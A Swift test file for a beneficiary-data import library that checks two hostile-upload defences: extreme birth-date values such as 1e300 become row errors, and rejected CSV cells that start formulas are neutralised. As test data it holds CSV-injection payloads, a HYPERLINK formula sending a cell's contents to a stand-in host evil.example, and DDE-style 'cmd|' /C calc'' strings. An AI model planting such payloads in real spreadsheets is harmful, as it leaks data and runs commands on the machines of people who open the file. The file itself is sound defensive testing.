import Foundation
import LumbungDomain
import LumbungImport
import LumbungSheets
import LumbungStore
import LumbungTestSupport
import Testing

/// Uploads built to attack (issue 12): a birth date of 1e300 that stopped the server even in a dry run
/// (finding 2), and cells that a spreadsheet runs as formulas when the rejects file is opened (finding 6).
@Suite struct HostileImportTests {
    static let header = ["NIK", "PROGRAM BANSOS", "NOKK", "NAMA", "TANGGAL LAHIR (31/01/2000)", "JENIS KELAMIN", "PROVINSI", "KABUPATEN",
                         "KECAMATAN", "KELURAHAN"]

    static func folder() throws -> URL {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("hostile-imp-\(UUID())")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        return folder
    }

    /// A usulan workbook whose birth-date cells hold `serials` as numbers, one row each, half of them date-styled.
    static func workbook(birthSerials serials: [String], at url: URL) throws {
        var rows = [HostileWorkbook.textRow(1, header)]
        for (index, serial) in serials.enumerated() {
            let number = index + 2
            let style = index % 2 == 0 ? #" s="1""# : ""
            let texts = HostileWorkbook.textRow(number, ["520301450892\(String(format: "%04d", index + 1))", "BPNT", "5203011106180101", "Baiq Siti"])
            let rest = HostileWorkbook.textRow(number, ["PEREMPUAN", "NUSA TENGGARA BARAT", "LOMBOK TIMUR", "KERUAK", "TANJUNG LUAR"])
                .replacingOccurrences(of: #"<row r="\#(number)">"#, with: "").replacingOccurrences(of: "</row>", with: "")
                .replacingOccurrences(of: #"r="A"#, with: #"r="F"#).replacingOccurrences(of: #"r="B"#, with: #"r="G"#)
                .replacingOccurrences(of: #"r="C"#, with: #"r="H"#).replacingOccurrences(of: #"r="D"#, with: #"r="I"#)
                .replacingOccurrences(of: #"r="E"#, with: #"r="J"#)
            rows.append(texts.replacingOccurrences(of: "</row>", with: #"<c r="E\#(number)"\#(style)><v>\#(serial)</v></c>"# + rest + "</row>"))
        }
        try HostileWorkbook.write(to: url, sheet: HostileWorkbook.sheet(rows.joined()))
    }

    @Test func a_birth_date_of_1e300_is_a_row_error_even_in_a_dry_run() async throws {
        let serials = ["1e300", "1e300", "-1e300", "1e19", "NaN", "inf", "-inf", "0x1p70", "2958466", "33821"]
        let url = try Self.folder().appendingPathComponent("usulan-tanggal.xlsx")
        try Self.workbook(birthSerials: serials, at: url)
        for dryRun in [true, false] {
            try await TestDatabase.withEach { database in
                var options = ImportFixtures.options()
                options.dryRun = dryRun
                let report = try await ImportJob(database: database, references: ImportFixtures.references).run(url, options: options)
                #expect(report.layout == "siksng-usulan")
                #expect(report.rowsRead == serials.count)
                #expect(report.inserted == 1 && report.rejected == serials.count - 1, "dry run \(dryRun)")
                let problem = try #require(report.problems.first { $0.code == "birth_date_invalid" })
                #expect(problem.examples.first?.message.contains("1e300") == true)
            }
        }
    }

    static let hyperlink = #"=HYPERLINK("http://evil.example/?"&A3,"klik")"#

    @Test func the_rejects_file_neutralises_cells_that_start_a_formula() async throws {
        // Row 3 is rejected (no such desa); its cells are what an attacker would plant.
        let csv = """
            NIK;PROGRAM BANSOS;NOKK;NAMA;TANGGAL LAHIR (31/01/2000);JENIS KELAMIN;PROVINSI;KABUPATEN;KECAMATAN;KELURAHAN
            5203014508920001;BPNT;5203011106180101;Baiq Siti;05/08/1992;PEREMPUAN;NUSA TENGGARA BARAT;LOMBOK TIMUR;KERUAK;TANJUNG LUAR
            5203011207850002;@SUM(1+1)*cmd|' /C calc'!A0;5203011106180102;"\(Self.hyperlink.replacingOccurrences(of: "\"", with: "\"\""))";12/07/1985;-2+3+cmd|' /C calc'!A0;+62 812;-8,58;KERUAK;TANJUNG LAUT
            """
        let url = try Self.folder().appendingPathComponent("usulan.csv")
        try csv.write(to: url, atomically: true, encoding: .utf8)
        try await TestDatabase.withEach { database in
            let report = try await ImportJob(database: database, references: ImportFixtures.references).run(url, options: ImportFixtures.options())
            #expect(report.rejected == 1)
            let rejects = try String(contentsOfFile: try #require(report.rejectsFile), encoding: .utf8)
            let line = try #require(rejects.split(separator: "\r\n").first { $0.contains("5203011207850002") })
            // Read back as a spreadsheet would: every formula-leading cell now starts with `'`, a plain negative number stays.
            let rows = try CSVSheetReader(url: try Self.write(String(line), name: "baris.csv")).allRows()
            let cells = rows[0].values.map(\.text)
            #expect(cells[3] == "'" + Self.hyperlink)
            #expect(cells[1] == "'@SUM(1+1)*cmd|' /C calc'!A0")
            #expect(cells[5] == "'-2+3+cmd|' /C calc'!A0")
            #expect(cells[6] == "'+62 812")
            #expect(cells[7] == "-8,58")
            #expect(!rejects.contains(";=") && !rejects.contains(";\"=") && !rejects.contains(";@") && !rejects.contains(";+"))
        }
    }

    static func write(_ text: String, name: String) throws -> URL {
        let url = try folder().appendingPathComponent(name)
        try text.write(to: url, atomically: true, encoding: .utf8)
        return url
    }
}

extension CSVSheetReader {
    func allRows() throws -> [SheetRow] {
        var rows: [SheetRow] = []
        try forEachRow { rows.append($0) }
        return rows
    }
}
